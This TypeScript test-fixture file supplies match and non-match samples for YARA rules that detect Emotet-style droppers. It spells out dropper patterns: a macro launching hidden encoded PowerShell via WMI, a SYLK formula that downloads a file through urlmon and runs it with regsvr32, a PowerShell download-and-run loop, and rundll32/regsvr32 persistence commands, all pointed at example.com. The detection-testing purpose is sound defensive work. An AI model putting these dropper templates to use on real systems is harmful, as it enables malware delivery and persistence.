/**
 * Inert positive and negative examples for every rule in rules/yara/ (the rule self-tests of STYLE.md
 * §6.4, kept here because YARA files have no `tests:` block). Text only describes droppers: example.com
 * URLs, base64 of harmless commands, random key bytes. Used by the bundled-rule tests and by the
 * differential test against Debian's `yara`.
 */
import { concatBytes } from '../../src/core/index.js';
import { buildEccKeyBlob, buildRsaSpki } from './emotet-config.js';

export interface YaraSample {
  /** What the buffer is, for test names. */
  name: string;
  bytes: Uint8Array;
  /** The `filetype` external the buffer is scanned with (emoguard's sniffed type). */
  filetype: string;
}

export interface RuleSamples {
  rule: string;
  match: YaraSample[];
  nomatch: YaraSample[];
}

const ascii = (s: string) => new TextEncoder().encode(s);
const utf16 = (s: string) => new Uint8Array(Buffer.from(s, 'utf16le'));
/** Text in the middle of binary noise, as it sits in process memory. */
const inMemory = (text: Uint8Array) =>
  concatBytes([new Uint8Array(64).fill(0xcc), text, new Uint8Array(64)]);

// base64 of UTF-16LE "Write-Host hi": harmless.
const ENC = 'VwByAGkAdABlAC0ASABvAHMAdAAgAGgAaQA=';
const WMI_MACRO =
  'Sub Document_Open()\r\n  Set p = GetObject("winmgmts:Win32_Process")\r\n' +
  `  p.Create "powershell -w hidden -enc ${ENC}", Null, Null, pid\r\nEnd Sub\r\n`;
const SYLK =
  'ID;P\r\nC;X1;Y1;K0;ECALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://example.com/a.dat","..\\oxnv1.ooccxx",0,0)\r\n' +
  'C;X1;Y2;K0;EEXEC("regsvr32 /s ..\\oxnv1.ooccxx")\r\nC;X1;Y3;K0;EHALT()\r\nE\r\n';
const PS_LOOP =
  "$u=('http://example.com/a@http://example.org/b').Split('@');$p=$env:temp+'\\x.exe';" +
  'foreach($x in $u){try{(New-Object Net.WebClient).DownloadFile($x, $p);' +
  'If ((Get-Item $p).length -ge 40000) {Invoke-Item $p;break;}}catch{}}';
const PERSIST_REGSVR =
  'C:\\Windows\\SysWOW64\\regsvr32.exe /s "C:\\Users\\alice\\AppData\\Local\\Xvbnmq\\kdjfhs.dll"';
const PERSIST_RUNDLL =
  'C:\\Windows\\system32\\rundll32.exe "C:\\Users\\bob\\AppData\\Local\\Qwerty\\asdfgh.dll",Control_RunDLL';

export function bundledRuleSamples(): RuleSamples[] {
  return [
    {
      rule: 'Emoguard_Macro_WMI_Win32_Process_Encoded_PowerShell',
      match: [
        { name: 'macro text in a text file', bytes: ascii(WMI_MACRO), filetype: 'text' },
        {
          name: 'macro text in process memory',
          bytes: inMemory(ascii(WMI_MACRO)),
          filetype: 'minidump',
        },
      ],
      nomatch: [
        {
          name: 'plain VBA source (the vba engine reads it)',
          bytes: ascii(WMI_MACRO),
          filetype: 'vba-source',
        },
        {
          name: 'WMI starting PowerShell on a script file, no encoded command',
          bytes: ascii(WMI_MACRO.replace(`-w hidden -enc ${ENC}`, '-File C:\\scripts\\report.ps1')),
          filetype: 'text',
        },
      ],
    },
    {
      rule: 'Emoguard_XLM_Register_Call_Urlmon_Download',
      match: [{ name: 'SYLK with CALL urlmon and EXEC', bytes: ascii(SYLK), filetype: 'sylk' }],
      nomatch: [
        {
          name: 'a PE import table naming urlmon.dll and URLDownloadToFileA',
          bytes: ascii('KERNEL32.dll\0urlmon.dll\0\0URLDownloadToFileA\0CreateProcessA\0'),
          filetype: 'pe',
        },
      ],
    },
    {
      rule: 'Emoguard_XLM_Exec_Proxy_Binary_Relative_Path',
      match: [
        { name: 'SYLK EXEC regsvr32 ..\\file', bytes: ascii(SYLK), filetype: 'sylk' },
        {
          name: 'formula text in process memory',
          bytes: inMemory(ascii('=EXEC("rundll32 ..\\enu.ocx,DllRegisterServer")')),
          filetype: 'minidump',
        },
      ],
      nomatch: [
        {
          name: 'EXEC of regsvr32 on a system path',
          bytes: ascii('C;X1;Y2;K0;EEXEC("regsvr32 /s C:\\Windows\\System32\\scrrun.dll")\r\n'),
          filetype: 'sylk',
        },
      ],
    },
    {
      rule: 'Emoguard_PowerShell_Url_List_Download_Loop',
      match: [
        { name: 'the loop in a text file', bytes: ascii(PS_LOOP), filetype: 'text' },
        {
          name: 'the loop in process memory',
          bytes: inMemory(ascii(PS_LOOP)),
          filetype: 'minidump',
        },
      ],
      nomatch: [
        {
          name: 'decoded PowerShell (the powershell engine reads it)',
          bytes: ascii(PS_LOOP),
          filetype: 'powershell',
        },
        {
          name: 'a download loop without the size check and run',
          bytes: ascii(PS_LOOP.replace(/If \(.*\}catch/, '}catch')),
          filetype: 'text',
        },
      ],
    },
    {
      rule: 'Emoguard_Emotet_RSA768_Public_Key',
      match: [
        {
          name: 'DER SubjectPublicKeyInfo in memory',
          bytes: inMemory(buildRsaSpki(768, 1)),
          filetype: 'minidump',
        },
        {
          name: 'PEM text',
          bytes: ascii(
            `-----BEGIN PUBLIC KEY-----\n${Buffer.from(buildRsaSpki(768, 2)).toString('base64')}\n`,
          ),
          filetype: 'text',
        },
      ],
      nomatch: [
        { name: 'an RSA-2048 key', bytes: inMemory(buildRsaSpki(2048, 3)), filetype: 'pe' },
      ],
    },
    {
      rule: 'Emoguard_Emotet_ECC_P256_Key_Pair',
      match: [
        {
          name: 'ECK1 and ECS1 blobs',
          bytes: inMemory(concatBytes([buildEccKeyBlob('ECK1', 1), buildEccKeyBlob('ECS1', 2)])),
          filetype: 'pe',
        },
      ],
      nomatch: [
        { name: 'one ECDH key alone', bytes: inMemory(buildEccKeyBlob('ECK1', 1)), filetype: 'pe' },
      ],
    },
    {
      rule: 'Emoguard_Emotet_Loader_Persistence_Command',
      match: [
        { name: 'regsvr32 /s on an AppData DLL', bytes: ascii(PERSIST_REGSVR), filetype: 'text' },
        {
          name: 'rundll32 Control_RunDLL in process memory',
          bytes: inMemory(ascii(PERSIST_RUNDLL)),
          filetype: 'minidump',
        },
      ],
      nomatch: [
        {
          name: 'the same command as UTF-16 (not covered: ASCII-only rules, see office-droppers.yar)',
          bytes: inMemory(utf16(PERSIST_REGSVR)),
          filetype: 'minidump',
        },
        {
          name: 'rundll32 on a system DLL',
          bytes: ascii('rundll32.exe shell32.dll,Control_RunDLL desk.cpl'),
          filetype: 'text',
        },
      ],
    },
  ];
}
